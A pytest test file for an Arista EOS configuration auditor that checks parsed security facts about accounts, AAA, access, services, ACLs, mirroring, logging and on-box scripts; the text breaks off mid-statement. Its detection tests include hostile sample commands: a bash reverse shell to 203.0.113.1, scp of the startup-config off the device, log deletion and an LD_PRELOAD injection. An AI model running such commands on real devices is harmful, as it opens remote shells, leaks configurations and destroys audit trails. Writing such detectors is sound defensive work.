"""Topic by topic: statements with their options, overridden and removed forms, defaults with and without a release."""

from __future__ import annotations

import pytest

from auditor.model.areas import Area, Method, PointKind, ServiceKind
from auditor.model.evidence import Code, Known, Unknown
from auditor.model.facts import Facts
from tests.platforms.arista_eos.eos import HEADER, facts, read
from tests.platforms.arista_eos.samples import SAMPLE

WHOLE = read(SAMPLE).facts


def test_every_area_is_filled_or_left_out_with_a_reason() -> None:
    assert set(Area) - set(WHOLE.areas) == {Area.INTERCEPT, Area.STATE}
    assert "mirrors" in WHOLE.missing[Area.INTERCEPT].reason
    assert WHOLE.coverage[0].unread == ()


def test_an_empty_configuration_claims_nothing() -> None:
    found = read("").facts
    assert isinstance(found.complete, Unknown)
    assert isinstance(found.services.state(ServiceKind.SSH), Unknown)
    assert isinstance(found.discovery.protocols[0].enabled, Unknown)
    assert isinstance(found.accounts.login_limited, Unknown)


class TestSystem:
    def test_name_release_and_model_come_from_the_header(self) -> None:
        assert WHOLE.hostname == "r1"
        assert WHOLE.os_version.need() == "4.30.1F"
        assert WHOLE.system.model.need() == "DCS-7280SR3-48YC8"

    def test_an_engineering_build(self) -> None:
        found = read("! device: r2 (cEOSLab, EOS-4.26.1F-21878657.x (engineering build))\n!\nend").facts
        assert found.os_version.need() == "4.26.1F-21878657.x"
        assert found.hostname == "r2"

    def test_the_version_document(self) -> None:
        version = "Arista DCS-7050\nSerial number:       ABC123\nSoftware image version: 4.14.7M\n"
        found = read("hostname r3\nend", ("show version", version)).facts
        assert (found.hostname, found.os_version.need()) == ("r3", "4.14.7M")
        assert (found.system.model.need(), found.system.serial.need()) == ("DCS-7050", "ABC123")

    def test_banners(self) -> None:
        found = facts("banner motd\nhello\nEOF\n!\nbanner login\n\n  \nEOF\nbanner exec\nx\nEOF").system.banners
        assert [(one.kind, one.before_login, one.empty) for one in found] == [
            ("motd", True, False),
            ("login", True, True),
            ("exec", False, False),
        ]


class TestAccounts:
    def test_lines_of_one_user_are_one_user_and_later_secrets_replace_earlier(self) -> None:
        (user,) = facts(
            "username a secret 0 one\nusername a privilege 15 role network-admin secret sha512 $6$a$b"
        ).accounts.users
        assert user.admin.need()
        assert user.secret is not None
        assert user.secret.storage == "SHA-512-crypt ($6$)"
        assert len(user.sources) == 2

    def test_a_user_who_is_taken_away_is_gone_and_one_who_comes_again_is_there(self) -> None:
        assert facts("username a nopassword\nno username a").accounts.users == ()
        assert len(facts("no username a\nusername a nopassword").accounts.users) == 1

    def test_a_user_without_password_comes_in_over_the_network_only_when_allowed(self) -> None:
        (user,) = facts("username a nopassword").accounts.users
        assert user.passwordless
        assert user.remote.need() is False
        (user,) = facts(
            "username a nopassword\naaa authentication policy local allow-nopassword-remote-login"
        ).accounts.users
        assert user.remote.need() is True

    @pytest.mark.parametrize(("shell", "has"), [("/bin/bash", True), ("/sbin/nologin", False)])
    def test_shells(self, shell: str, has: bool) -> None:
        (user,) = facts(f"username a shell {shell} nopassword").accounts.users
        assert user.shell.need() is has

    def test_root(self) -> None:
        assert facts("no aaa root").accounts.users == ()
        (root,) = facts("aaa root nopassword").accounts.users
        assert (root.name, root.builtin, root.passwordless, root.shell.need()) == ("root", True, True, True)
        assert facts("aaa root secret sha512 $6$a$b\nno aaa root").accounts.users == ()
        assert facts("no aaa root").services.ssh.root_login == Known(
            False, facts("no aaa root").services.ssh.root_login.sources
        )  # type: ignore[union-attr]
        assert isinstance(facts("hostname x").services.ssh.root_login, Unknown)

    def test_keys(self) -> None:
        key = "AAAAC3NzaC1lZDI1NTE5AAAAIPeFOiYvOO8CgT2oNCvmhI0Oy/GjHYoGVDQZwYlEkkzA"
        found = facts(
            f"username a ssh-key ssh-ed25519 {key} a b\nusername a ssh-key secondary ssh-rsa AAAA\nusername a ssh-principal p1"
        ).accounts
        assert [(one.algorithm, one.comment, one.bits) for one in found.keys] == [
            ("ssh-ed25519", "a b", 256),
            ("ssh-rsa", "", None),
        ]
        assert found.keys[0].fingerprint == "SHA256:QDxY6fZjFzCrMWy44q5Rn7QdA00bc711Q6UYL7hA6zA"
        assert [(hook.kind, hook.target, hook.user) for hook in found.hooks] == [("certificate principal", "p1", "a")]

    def test_roles_are_judged_by_the_first_rule_that_decides(self) -> None:
        text = "role all\n   10 permit command .*\nrole most\n   20 permit command .*\n   10 deny mode exec command bash\nrole no-rules\nusername a role all secret 0 x\nusername b role most secret 0 x"
        found = facts(text).accounts
        assert {role.name: (role.full.need(), role.shell.need()) for role in found.roles} == {
            "all": (True, True), "most": (False, False), "no-rules": (False, False),
        }  # fmt: skip
        assert {user.name: user.admin.need() for user in found.users} == {"a": True, "b": False}

    def test_rights_limits_and_lengths(self) -> None:
        found = facts(
            "aaa authorization policy local default-role network-admin\nmanagement security\n   password minimum length 14\n   password encryption reversible aes-256-gcm"
        ).accounts
        assert len(found.default_rights) == 1
        assert found.minimum_length.need() == 14
        assert found.obscured is not None
        assert found.obscured.need()
        assert facts("aaa authorization policy local default-role network-operator").accounts.default_rights == ()
        assert facts("hostname x").accounts.login_limited.need() is False


class TestAaa:
    def test_groups_order_and_members_without_a_definition(self) -> None:
        groups = WHOLE.aaa.groups
        assert (groups[0].members, groups[0].undefined) == (("192.0.2.31", "192.0.2.39"), ("192.0.2.39",))
        assert {server.address: (server.group, server.order) for server in WHOLE.aaa.servers} == {
            "192.0.2.31": ("TAC", 1), "192.0.2.32": ("", None), "192.0.2.33": ("", None), "192.0.2.39": ("TAC", 2),
        }  # fmt: skip

    def test_the_key_for_all_servers_is_that_of_servers_without_one(self) -> None:
        storages = {server.address: server.secret.storage if server.secret else "" for server in WHOLE.aaa.servers}
        assert storages["192.0.2.31"] == "type 7 (reversible)"
        assert storages["192.0.2.32"] == "type 8a (AES-256-GCM)"

    def test_tls_ports_and_coa(self) -> None:
        found = facts(
            "radius-server host 192.0.2.1 vrf V tls ssl-profile P port 2083\nradius-server dynamic-authorization port 3799"
        ).aaa
        assert (found.servers[0].tls.need(), found.servers[0].port, found.servers[0].vrf) == (True, 2083, "V")
        assert found.coa.need()
        assert facts("hostname x").aaa.coa.need() is False

    def test_lists(self) -> None:
        found = facts(
            "aaa authentication login default none\naaa authentication login default group tacacs+ local\naaa authentication login console local\naaa authentication enable default group G none"
        ).aaa
        assert {one.name: one.methods for one in found.login_lists} == {
            "default": (Method.SERVERS, Method.LOCAL), "console": (Method.LOCAL,),
        }  # fmt: skip
        assert found.enable_lists[0].methods == (Method.SERVERS, Method.NONE)
        assert found.enabled.need()

    def test_authorization_and_accounting(self) -> None:
        found = facts(
            "aaa authorization serial-console\nno aaa authorization config-commands\naaa accounting system default none\naaa accounting commands 15 default stop-only group A multicast logging\naaa accounting exec default start-stop group A\nno aaa accounting exec default"
        ).aaa
        assert [(one.kind, one.methods) for one in found.authorization] == [
            ("console", ()),
            ("config-commands", (Method.NONE,)),
        ]
        assert [(one.kind, one.level, one.groups, one.broadcast, one.off) for one in found.accounting] == [
            ("system", "", (), False, True), ("commands", "15", ("A", "logging"), True, False),
        ]  # fmt: skip


class TestAccess:
    def test_ssh_is_open_when_nothing_is_written(self) -> None:
        found = facts("interface Ethernet1\n   no switchport\n   ipv6 address 2001:db8::1/64")
        ssh = found.access.points[0]
        assert ssh.protocols.need() == ("ssh",)
        assert isinstance(ssh.protocols, Known)
        assert "D.4" in ssh.protocols.default
        assert ssh.open_families.need() == (4, 6)
        assert ssh.idle_seconds.need() == 0

    def test_shutdown_and_vrfs(self) -> None:
        found = facts(
            "management ssh\n   shutdown\n   vrf A\n      no shutdown\n   vrf B\n      shutdown\n   vrf C"
        ).access.points
        assert [point.vrfs for point in found if point.name.startswith("management ssh")] == [
            ("default",),
            ("A",),
            ("B",),
            ("C",),
        ]
        assert [
            point.protocols for point in found[:3] if isinstance(point.protocols, Known) and point.protocols.value
        ] == [found[1].protocols]
        assert isinstance(found[3].protocols, Unknown)
        assert found[0].open_families.need() == ()
        assert found[1].open_families.need() == (4,)

    def test_lists_by_vrf_and_family(self) -> None:
        text = "ip access-list A\n   10 permit tcp 10.0.0.0/8 any eq ssh\n   20 permit tcp any any eq https\nipv6 access-list S\n   permit ipv6 any any\nmanagement ssh\n   ip access-group A in\n   ipv6 access-group S in\n   ip access-group B vrf V in\n   vrf V\n      no shutdown"
        first, second = facts(text).access.points[:2]
        assert [(one.name, one.family, one.any_source.need()) for one in first.filters] == [
            ("A", 4, False),
            ("S", 6, True),
        ]
        assert first.open_families.need() == ()
        assert [(one.name, one.defined) for one in second.filters] == [("B", False)]
        assert isinstance(second.filters[0].any_source, Unknown)

    def test_a_list_on_the_control_plane_stands_before_ssh(self) -> None:
        found = facts(
            "ip access-list C\n   permit tcp 10.0.0.0/8 any eq ssh\n   permit tcp any any eq bgp\nsystem control-plane\n   ip access-group C in"
        )
        (filter_,) = found.access.points[0].filters
        assert (filter_.name, filter_.any_source.need()) == ("C", False)
        assert found.control_plane.filters[0].any_source.need() is True
        assert [(one.where, one.direction) for one in found.acls.lists[0].bindings] == [("control-plane", "in")]

    def test_the_old_name_of_the_control_plane(self) -> None:
        found = facts("control-plane\n   ip access-group C vrf V in")
        assert [one.name for one in found.control_plane.filters] == ["C"]

    def test_empty_passwords(self) -> None:
        text = "management ssh\n   authentication empty-passwords permit"
        assert facts(text).access.points[0].login_open is None
        assert facts(f"username a nopassword\n{text}").access.points[0].login_open is not None

    def test_telnet_and_console(self) -> None:
        assert [point.name for point in facts("hostname x").access.points] == ["management ssh", "console"]
        points = facts(
            "management telnet\n   no shutdown\nmanagement console\n   idle-timeout 5\naaa authentication login console local"
        ).access.points
        assert points[1].protocols.need() == ("telnet",)
        assert (points[2].kind, points[2].idle_seconds.need(), points[2].login_list) == (
            PointKind.CONSOLE,
            300,
            "console",
        )


def on(found: Facts, kind: ServiceKind) -> list[str]:
    return [one.name for one in found.services.of(kind) if isinstance(one.enabled, Known) and one.enabled.value]


class TestServices:
    def test_eapi_is_off_by_default_and_https_when_it_is_on(self) -> None:
        assert on(facts("hostname x"), ServiceKind.JSON_RPC) == []
        found = facts("management api http-commands\n   no shutdown")
        assert on(found, ServiceKind.JSON_RPC) == ["https"]
        assert on(found, ServiceKind.HTTPS) == ["eAPI"]
        assert on(found, ServiceKind.HTTP) == []

    def test_eapi_with_its_protocols_ports_and_vrfs(self) -> None:
        text = "management api http-commands\n   protocol http port 8080 localhost\n   no protocol https\n   protocol unix-socket\n   no shutdown\n   vrf default\n      shutdown\n   vrf M\n      no shutdown\n      ip access-group A"
        found = facts(text)
        assert on(found, ServiceKind.JSON_RPC) == ["http (localhost)", "unix-socket"]
        assert on(found, ServiceKind.HTTP) == []
        assert on(found, ServiceKind.HTTPS) == []
        https = next(one for one in found.services.of(ServiceKind.JSON_RPC) if one.name == "https")
        assert https.vrfs == ("M",)

    def test_eapi_that_is_shut_down(self) -> None:
        found = facts("management api http-commands\n   protocol http\n   shutdown")
        assert on(found, ServiceKind.JSON_RPC) == on(found, ServiceKind.HTTP) == []

    def test_transports(self) -> None:
        text = "ip access-list A\n   permit ip 10.0.0.0/8 any\nmanagement api gnmi\n   transport grpc one\n      port 50051\n      vrf M\n      ip access-group A\n      ssl profile P\n   transport grpc two\n      shutdown\nmanagement api netconf\n   transport ssh def\nmanagement api restconf\n   transport https def"
        found = facts(text).services
        one, two = found.of(ServiceKind.GNMI)
        assert (one.port, one.vrfs, one.tls.need(), one.open_families.need(), one.filters[0].any_source.need()) == (
            50051,
            ("M",),
            True,
            (),
            False,
        )
        assert two.enabled.need() is False
        assert found.state(ServiceKind.NETCONF) == Known(True, found.of(ServiceKind.NETCONF)[0].enabled.sources)
        assert found.of(ServiceKind.RESTCONF)[0].tls.need()

    def test_eapi_that_is_off_with_a_vrf_that_is_on_is_not_known(self) -> None:
        found = facts("management api http-commands\n   shutdown\n   vrf M\n      no shutdown").services
        assert isinstance(found.of(ServiceKind.JSON_RPC)[1].enabled, Unknown)

    def test_an_agent_that_listens(self) -> None:
        text = "daemon TerminAttr\n   exec /usr/bin/TerminAttr -grpcaddr=MGMT/0.0.0.0:6042 -disableaaa\n   no shutdown"
        one = next(one for one in facts(text).services.of(ServiceKind.GNMI) if one.name == "TerminAttr")
        assert (one.port, one.vrfs, one.enabled.need(), one.open_families.need()) == (6042, ("MGMT",), True, (4,))
        assert one.unauthenticated is not None

    def test_lists_of_eapi_concern_its_own_port(self) -> None:
        text = "ip access-list A\n   permit tcp any any eq 8443\nmanagement api http-commands\n   protocol https port 8443\n   no shutdown\n   vrf default\n      no shutdown\n      ip access-group A"
        https = next(one for one in facts(text).services.of(ServiceKind.JSON_RPC) if one.name == "https")
        assert https.filters[0].any_source.need() is True

    def test_small_listeners(self) -> None:
        found = facts(
            "p4-runtime\n no shutdown\ncvx\n   shutdown\nqueue-monitor streaming\n   no shutdown\ndhcp server\n   subnet 10.0.0.0/24"
        )
        assert on(found, ServiceKind.OTHER) == ["p4-runtime", "queue-monitor streaming"]
        assert on(found, ServiceKind.DHCP) == [""]

    def test_ssh_server(self) -> None:
        found = facts(
            "management ssh\n   cipher aes256-ctr\n   mac hmac-sha2-256\n   key-exchange curve25519-sha256\n   hostkey server ed25519\n   server-port 22022\n   authentication protocol public-key"
        ).services
        assert {one.kind: one.names for one in found.ssh.algorithms} == {
            "encryption": ("aes256-ctr",), "mac": ("hmac-sha2-256",), "kex": ("curve25519-sha256",), "hostkey": ("ed25519",),
        }  # fmt: skip
        assert found.ssh.password_login is not None
        assert found.ssh.password_login.need() is False
        assert found.of(ServiceKind.SSH)[0].port == 22022


class TestSnmp:
    def test_off_without_a_community_or_user(self) -> None:
        assert facts("snmp-server contact x").snmp.enabled.need() is False
        assert facts("snmp-server community c ro").snmp.enabled.need() is True
        assert facts("snmp-server community c ro\nno snmp-server vrf default").snmp.enabled.need() is False
        assert facts("snmp-server community c ro\nno snmp-server community c").snmp.communities == ()

    def test_options_of_communities(self) -> None:
        first, second = facts(
            "snmp-server community a view V rw ipv6 S6 S4\nsnmp-server community b S4"
        ).snmp.communities
        assert (first.writable, first.view, [(one.name, one.family) for one in first.filters]) == (
            True,
            "V",
            [("S6", 6), ("S4", 4)],
        )
        assert (second.writable, [one.name for one in second.filters]) == (False, ["S4"])

    def test_users_and_hosts(self) -> None:
        users = {user.name: user for user in WHOLE.snmp.users}
        assert (users["u1"].auth, users["u1"].privacy) == ("sha", "aes-128")
        assert (users["u2"].auth, users["u2"].privacy) == ("sha-256", "aes-256")
        assert [(host.version, host.user, host.level, host.vrf) for host in WHOLE.snmp.hosts] == [
            ("v2c", "", "", "MGMT"),
            ("v3", "u1", "priv", ""),
        ]
        remote = facts("snmp-server user r G remote 192.0.2.1 udp-port 162 v3 auth md5 x").snmp.users[0]
        assert (remote.remote, remote.auth, remote.privacy, remote.privacy_secret) == (True, "md5", "", None)

    def test_names_without_a_definition(self) -> None:
        found = facts(
            "snmp-server community a view NOVIEW ro NOLIST\nsnmp-server group g v3 priv read NOVIEW2"
        ).acls.undefined
        assert {(one.kind, one.name) for one in found} == {
            ("view", "NOVIEW"),
            ("access-list", "NOLIST"),
            ("view", "NOVIEW2"),
        }


class TestAcls:
    @pytest.mark.parametrize(
        ("entry", "expected"),
        [
            ("permit tcp any any eq ssh", (("0.0.0.0/0",), ("0.0.0.0/0",), ("ssh",))),
            ("permit tcp host 192.0.2.1 eq 1024 any range 20 22", (("192.0.2.1/32",), ("0.0.0.0/0",), ("20-22",))),
            (
                "permit udp 10.0.0.0 0.255.255.255 host 192.0.2.9 eq snmp ntp",
                (("10.0.0.0/8",), ("192.0.2.9/32",), ("snmp", "ntp")),
            ),
            ("permit tcp 10.0.0.0/8 any gt 1023 established", (("10.0.0.0/8",), ("0.0.0.0/0",), ("1024-65535",))),
            ("permit tcp any any neq 22 log", (("0.0.0.0/0",), ("0.0.0.0/0",), ("!22",))),
            ("permit tcp any any lt 10", (("0.0.0.0/0",), ("0.0.0.0/0",), ("0-9",))),
            ("permit icmp any any unreachable", (("0.0.0.0/0",), ("0.0.0.0/0",), ())),
            ("permit vlan 10 0xfff ip any any", (("0.0.0.0/0",), ("0.0.0.0/0",), ())),
            ("permit 112 any 224.0.0.18/32", (("0.0.0.0/0",), ("224.0.0.18/32",), ())),
            ("permit ip 10.1.0.0 0.0.255.0 any", (("10.1.0.0 0.0.255.0",), ("0.0.0.0/0",), ())),
        ],
    )
    def test_entries(self, entry: str, expected: tuple[object, ...]) -> None:
        (acl,) = facts(f"ip access-list A\n   10 {entry}").acls.lists
        (found,) = acl.entries
        assert (found.sources, found.destinations, found.ports) == expected
        assert found.established is ("established" in entry)
        assert found.log is ("log" in entry)

    def test_ipv6_and_standard_lists(self) -> None:
        text = "ipv6 access-list S\n   permit ipv6 host 2001:db8::1 any\nip access-list standard T\n   permit 192.0.2.0/24 log\n   deny any\nip access-list T6"
        found = {acl.name: acl for acl in facts(text).acls.lists}
        assert (found["S"].family, found["S"].entries[0].sources) == (6, ("2001:db8::1/128",))
        assert [(entry.permit, entry.sources) for entry in found["T"].entries] == [
            (True, ("192.0.2.0/24",)),
            (False, ("0.0.0.0/0",)),
        ]
        assert found["T6"].entries == ()

    def test_what_is_bound_where(self) -> None:
        bindings = {acl.name: {one.where for one in acl.bindings} for acl in WHOLE.acls.lists}
        assert bindings["EDGE"] == {"interface Ethernet1", "class-map CM", "monitor session spy"}
        assert bindings["MGMT-IN"] == {"management ssh", "control-plane", "management api http-commands"}
        assert bindings["SNMP4"] == {"snmp vrf MGMT", "snmp community"}
        assert WHOLE.acls.undefined == ()

    def test_an_unknown_entry_is_unread_in_the_area(self) -> None:
        found = facts("ip access-list A\n   10 frobnicate all")
        assert [source.text for source in found.unread[Area.ACLS]] == ["10 frobnicate all"]

    def test_prefix_lists_in_both_spellings(self) -> None:
        text = "ip prefix-list P seq 20 deny 0.0.0.0/0\nip prefix-list P seq 10 permit 10.0.0.0/8 ge 16 le 24\nipv6 prefix-list P\n   seq 5 permit 2001:db8::/32 eq 48\n   remark x"
        four, six = facts(text).acls.prefix_lists
        assert [(entry.permit, entry.ge, entry.le) for entry in four.entries] == [(True, 16, 24), (False, None, None)]
        assert (six.family, six.entries[0].ge, six.entries[0].le) == (6, 48, 48)


class TestTraffic:
    def test_mirrors(self) -> None:
        text = "monitor session a source Cpu rx\nmonitor session a destination Ethernet9\nmonitor session b source Ethernet1\nmonitor session b destination Cpu\nmonitor session default encapsulation gre payload inner-packet\nqueue-monitor length mirror\nqueue-monitor length mirror destination tunnel mode gre source 10.0.0.1 destination 10.0.0.2\nmonitor telemetry postcard policy\n   no disabled\n   ingress collection gre source 10.0.0.1 destination 10.0.0.3"
        found = {one.name: one for one in facts(text).mirrors.sessions}
        assert found["monitor session a"].whole
        assert found["monitor session b"].destinations[0].kind == "cpu"
        assert found["queue-monitor length mirror"].destinations[0].value == "10.0.0.2"
        assert found["postcard policy"].destinations[0].value == "10.0.0.3"
        assert found["postcard policy"].active.need()
        assert facts("monitor session a source Ethernet1\nno monitor session a").mirrors.sessions == ()

    def test_tap_aggregation(self) -> None:
        assert facts("tap aggregation\n   no mode").mirrors.sessions == ()
        (found,) = facts(
            "tap aggregation\n   mode exclusive\ninterface Ethernet1\n   switchport mode tap\n   switchport tap default group G\ninterface Ethernet2\n   switchport mode tool"
        ).mirrors.sessions
        assert (found.copied, [one.value for one in found.destinations], found.active.need()) == (
            ("Ethernet1",),
            ["Ethernet2"],
            True,
        )
        (alone,) = facts("interface Ethernet1\n   switchport mode tap").mirrors.sessions
        printed = "interface Ethernet1\n   no switchport tap default group\n   switchport tap native vlan 1"
        assert facts(printed).mirrors.sessions == ()
        assert isinstance(alone.active, Unknown)

    def test_exporters(self) -> None:
        found = facts("sflow destination 10.0.0.1\nsflow vrf V destination 10.0.0.2 6344").exporters.exporters
        assert [(one.address, one.vrf, one.port, one.active.need()) for one in found] == [
            ("10.0.0.1", "", None, False),
            ("10.0.0.2", "V", 6344, False),
        ]
        assert {one.protocol: len(one.bound) for one in WHOLE.exporters.exporters} == {"sflow": 1, "ipfix": 1}

    def test_tunnels(self) -> None:
        found = {(one.name, one.remote): one for one in WHOLE.tunnels.tunnels}
        assert found["Tunnel9", "203.0.113.99"].mode == "gre"
        assert found["Tunnel9", "203.0.113.99"].protection == "PROT"
        assert ("Vxlan1", "203.0.113.77") in found
        assert found["decap-group DG", ""].server
        extra = facts(
            "nexthop-group N type gre\n   size 1\n   tunnel-source 10.0.0.1\n   entry 0 tunnel-destination 10.9.9.9\nrouter traffic-engineering\n   segment-routing\n      policy endpoint 10.8.8.8 color 5"
        ).tunnels.tunnels
        assert [(one.mode, one.remote) for one in extra] == [("gre", "10.9.9.9"), ("sr-te", "10.8.8.8")]

    def test_ipsec(self) -> None:
        (peer,) = WHOLE.crypto.peers
        assert (peer.address, peer.authentication, peer.proposals) == ("203.0.113.99", "psk", ("IKE", "SA"))
        assert {(one.kind, one.encryption, one.integrity, one.groups, one.used) for one in WHOLE.crypto.proposals} == {
            ("ike", ("3des",), ("md5",), ("2",), True), ("ipsec", ("null",), (), ("14",), True),
        }  # fmt: skip

    def test_pseudowires(self) -> None:
        (wire,) = WHOLE.pseudowires.circuits
        assert (wire.kind, wire.peer, wire.id, wire.attachments) == ("pseudowire", "203.0.113.5", "500", ("Ethernet6",))
        found = facts(
            "patch panel\n   patch L\n      connector 1 interface Ethernet1\n      connector 2 interface Ethernet2\n      shutdown\nrouter bgp 1\n   vlan 10\n      rd 1:1"
        ).pseudowires.circuits
        assert [(one.kind, one.active) for one in found] == [("local", False), ("evpn", True)]

    def test_routes(self) -> None:
        text = "ip route 10.0.0.0/8 192.0.2.1 200 tag 5 name x\nip route vrf V 10.0.0.0 255.0.0.0 Null0\nipv6 route ::/0 2001:db8::1\nip route 10.1.0.0/16 nexthop-group G\nip route 10.2.0.0/16 egress-vrf R 192.0.2.2\nip route 10.3.0.0/16 192.0.2.3\nno ip route 10.3.0.0/16 192.0.2.3"
        found = facts(text).routes.static
        assert [(one.prefix, one.next_hop, one.interface, one.vrf, one.discard, one.next_vrf) for one in found] == [
            ("10.0.0.0/8", "192.0.2.1", "", "", False, ""),
            ("10.0.0.0/8", "", "Null0", "V", True, ""),
            ("10.1.0.0/16", "", "nexthop-group G", "", False, ""),
            ("10.2.0.0/16", "192.0.2.2", "", "", False, "R"),
            ("::/0", "2001:db8::1", "", "", False, ""),
        ]

    def test_redirection(self) -> None:
        redirects = {one.name: one for one in WHOLE.redirection.redirects}
        assert (redirects["DIVERT"].target, redirects["DIVERT"].matches, len(redirects["DIVERT"].bound)) == (
            "203.0.113.44",
            ("EDGE",),
            1,
        )
        assert (redirects["TP"].target, redirects["TP"].vrf, len(redirects["TP"].bound)) == ("203.0.113.45", "CUST", 1)
        (rewrite,) = WHOLE.redirection.rewrites
        assert (rewrite.policy, rewrite.next_hop, len(rewrite.bound)) == ("RM", "203.0.113.46", 1)
        assert len(WHOLE.redirection.flowspec) == 1
        assert facts("route-map D deny 10\n   set ip next-hop 10.0.0.1").redirection.rewrites == ()

    def test_translations_with_ports_and_directions(self) -> None:
        text = "ip nat profile P\n   ip nat source ingress static 3.0.0.8 4.0.0.8\n   ip nat source static 3.0.0.3 22 4.0.0.3 23 protocol udp comment port 99\n   ip nat destination egress static 239.0.0.1 239.0.0.2\n   ip nat source static 3.0.0.7 access-list A 4.0.0.7"
        assert [
            (one.kind, one.inside, one.inside_port, one.outside, one.outside_port, one.protocol)
            for one in facts(text).nat.rules
        ] == [
            ("static", "3.0.0.8", "", "4.0.0.8", "", ""),
            ("port-forward", "3.0.0.3", "22", "4.0.0.3", "23", "udp"),
            ("destination", "239.0.0.1", "", "239.0.0.2", "", ""),
            ("static", "3.0.0.7", "", "4.0.0.7", "", ""),
        ]

    def test_service_insertion_and_learned_endpoints(self) -> None:
        found = facts(
            "router service-insertion\n   connection c\n      interface Tunnel1 primary\n      interface Ethernet1 next-hop 10.0.0.1\ninterface Vxlan1\n   vxlan flood vtep learned data-plane"
        )
        assert [(one.target_kind, one.target) for one in found.redirection.redirects] == [
            ("interface", "Tunnel1"),
            ("address", "10.0.0.1"),
        ]
        assert [one.remote for one in found.tunnels.tunnels] == [""]

    def test_exits_and_segments(self) -> None:
        text = "router internet-exit\n   exit-group G\n      local connection C\n   policy P\n      exit-group G\nrouter segment-security\n   policy S\n      10 application A action redirect next-hop 10.0.0.9 stateless"
        found = {one.name: one for one in facts(text).redirection.redirects}
        assert (found["internet exit G"].target, len(found["internet exit G"].bound)) == ("C", 1)
        assert (found["segment security"].target, found["segment security"].matches) == ("10.0.0.9", ("A",))

    def test_nat(self) -> None:
        found = facts(
            "interface Ethernet1\n   ip nat source dynamic access-list A overload\n   ip nat source static 10.0.0.1 192.0.2.1\n   ip nat destination static 192.0.2.1 10.0.0.1"
        ).nat.rules
        assert [(one.kind, one.inside, one.outside) for one in found] == [
            ("source", "A", "overload"),
            ("static", "10.0.0.1", "192.0.2.1"),
            ("destination", "192.0.2.1", "10.0.0.1"),
        ]
        assert {one.kind for one in WHOLE.nat.rules} == {"port-forward", "proxy"}


class TestLogs:
    def test_hosts(self) -> None:
        found = facts(
            "logging host 10.0.0.1 514 1514\nlogging vrf V host 10.0.0.2 protocol tcp\nlogging host 10.0.0.3\nno logging host 10.0.0.3"
        ).logging.hosts
        assert [(one.address, one.vrf, one.port, one.transport) for one in found] == [
            ("10.0.0.1", "", 514, "udp"), ("10.0.0.1", "", 1514, "udp"), ("10.0.0.2", "V", None, "tcp"),
        ]  # fmt: skip

    def test_switches(self) -> None:
        assert facts("no logging on").logging.enabled.need() is False
        assert facts("hostname x").logging.enabled.need() is True
        assert facts("no logging buffered").logging.local.need() is False
        assert facts("logging buffered 10 errors").logging.local_severity.need() == "error"
        assert facts("logging trap 3\nlogging host 10.0.0.1").logging.hosts[0].severity.need() == "error"
        assert isinstance(facts("no logging trap\nlogging host 10.0.0.1").logging.hosts[0].severity, Unknown)

    def test_what_is_kept_from_the_log(self) -> None:
        found = WHOLE.logging
        assert [(one.what, one.pattern) for one in found.suppressions] == [
            ("messages matching list HIDE", ".*CONFIG_I.*"),
            ("facility SYS below its level", "critical"),
        ]
        assert found.config_changes.need() is False
        assert facts("logging level SYS informational").logging.suppressions == ()
        assert facts("hostname x").logging.config_changes.need() is True
        assert facts("no logging on").logging.config_changes.need() is False

    def test_logins(self) -> None:
        assert WHOLE.logging.logins.need() is True
        assert facts("aaa authentication policy on-failure log").logging.logins.need() is False

    def test_time(self) -> None:
        found = facts(
            "ntp server vrf M 192.0.2.1 prefer iburst key 3\nntp authentication-key 3 md5 7 x\nntp trusted-key 1,2-4"
        ).time
        assert (found.servers[0].address, found.servers[0].vrf, found.servers[0].key) == ("192.0.2.1", "M", "3")
        assert found.servers[0].authenticated.need() is False
        assert found.keys[0].trusted
        assert found.serves.need() is False
        assert WHOLE.time.servers[0].authenticated.need() is True
        assert WHOLE.time.serves.need() is True
        assert facts("interface Ethernet1\n   ntp serve").time.serves.need() is True
        assert facts("ntp serve all\nntp serve ip access-group A in").time.filters[0].name == "A"


class TestOnBox:
    def test_handlers(self) -> None:
        (handler,) = WHOLE.scripts.policies
        assert handler.trigger == "on-boot"
        assert [trait.what for trait in handler.traits] == [
            "clears logs",
            "copies to a remote host",
            "fetches from a remote host",
        ]
        assert handler.traits[0].source.text == "clear log"
        assert not facts("event-handler E\n   trigger on-boot").scripts.policies[0].active

    @pytest.mark.parametrize(
        ("code", "what"),
        [
            ("tcpdump -i any -w /mnt/flash/x.pcap", "captures traffic"),
            ("useradd eve", "changes accounts"),
            ("bash -i >& /dev/tcp/203.0.113.1/443 0>&1", "opens a connection to another host"),
            ("iptables -I INPUT -j ACCEPT", "changes access lists"),
            ("rm -rf /var/log/messages", "clears logs"),
            ("FastCli -p 15 -c 'conf'", "runs foreign code"),
            ("scp /mnt/flash/startup-config eve@203.0.113.1:", "copies to a remote host"),
        ],
    )
    def test_traits(self, code: str, what: str) -> None:
        (handler,) = facts(f"event-handler E\n   trigger on-boot\n   action bash {code}").scripts.policies
        assert what in [trait.what for trait in handler.traits]

    def test_a_variable_that_makes_an_agent_load_other_code(self) -> None:
        found = facts("agent A environment LD_PRELOAD=/mnt/flash/x.so\nagent B environment B_SWITCH=1").scripts.scripts
        assert [[trait.what for trait in one.traits] for one in found] == [["loads other code"], []]

    def test_daemons_jobs_aliases_agents(self) -> None:
        text = "daemon d\n   exec /mnt/flash/x -a\n   shutdown\nschedule j interval 60 timeout 5 max-log-files 1 command bash x\nalias a\n   10 one\n   !\n   20 two\nagent Sysdb environment X=1"
        found = facts(text).scripts
        assert [(one.name, one.kind, one.path, one.active) for one in found.scripts] == [
            ("d", "daemon", "/mnt/flash/x", False),
            ("Sysdb", "agent environment", "", True),
        ]
        assert [(one.name, one.when, one.commands) for one in found.jobs] == [("j", "interval 60", ("bash x",))]
        assert [(one.name, one.command) for one in found.aliases] == [("a", "one; two")]
        assert found.shell is not None
        assert found.shell.need()

    def test_containers_are_not_known_to_be_absent(self) -> None:
        assert isinstance(facts("hostname x").containers.host, Unknown)
        found = facts("container-manager\n   container c\n      image i\n      on-boot").containers
        assert (found.host.need(), found.apps[0].name, found.apps[0].image, found.apps[0].started) == (
            True,
            "c",
            "i",
            True,
        )


class TestLifecycle:
    def test_boot(self) -> None:
        found = facts("boot system http://192.0.2.1/x.swi").boot
        assert [(image.path, image.remote) for image in found.images] == [("http://192.0.2.1/x.swi", True)]
        assert isinstance(found.autoinstall, Unknown)
        assert found.autoinstall.code is Code.STATE

    def test_transfers(self) -> None:
        (found,) = WHOLE.transfers.transfers
        assert (found.kind, found.protocol, found.host, found.outbound) == ("configuration", "scp", "203.0.113.8", True)
        (found,) = facts(
